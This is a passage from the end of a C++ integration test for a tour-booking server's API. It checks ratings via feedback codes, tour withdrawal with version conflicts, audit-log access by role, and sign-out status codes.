  rate(fmt::format(R"({{"code":"{}","rating":0}})", code));          // 400
  rate("{}", "text/plain");                                          // 415
  auto const seen = json::parse(get("/api/v1/tours/1", staff).body);
  EXPECT_EQ(code.size(), 16U);
  EXPECT_EQ(seen["ratings"]["count"], 1);
  EXPECT_EQ(seen["ratings"]["mean"], 5.0);
  EXPECT_EQ(seen["ratings"]["ratings"][0]["comment"], "Wonderful lake");
  auto const listed = json::parse(get("/api/v1/tours", staff).body)["tours"][0];
  EXPECT_EQ(listed.value("feedbackCode", ""), code) << "in the operator's list too";
  EXPECT_FALSE(listed.contains("ratings")) << "the ratings come with the tour read alone";
  post("/api/v1/tours/1/withdraw", traveller, fmt::format(R"({{"version":{}}})", version + 2));  // 403
  post("/api/v1/tours/1/withdraw", staff, fmt::format(R"({{"version":{}}})", version + 2));      // 200
  post("/api/v1/tours/1/withdraw", staff, fmt::format(R"({{"version":{}}})", version + 3));      // 409 (a draft already)
  rate(fmt::format(R"({{"code":"{}","rating":4}})", code));          // 409 (not approved now)
  get("/api/v1/audit", admin);                                        // 200
  get("/api/v1/audit?limit=0", admin);                                // 400
  get("/api/v1/audit");                                               // 401
  get("/api/v1/audit", traveller);                                    // 403
  post("/api/v1/auth/signout", traveller, "");                        // 204
  post("/api/v1/auth/signout", {}, "");                               // 401
}

}  // namespace caravan::server::testing
